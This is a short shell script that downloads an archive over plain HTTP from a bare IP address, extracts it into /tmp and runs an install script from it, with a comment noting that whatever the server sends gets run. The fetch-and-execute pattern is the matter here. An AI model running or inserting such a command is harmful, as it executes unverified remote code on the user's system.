#!/bin/sh
# an archive fetched, extracted, and a file of it run: whatever the server sends runs
curl -fsSL http://203.0.113.7/kit.tgz | tar xz -C /tmp
sh /tmp/kit/install.sh
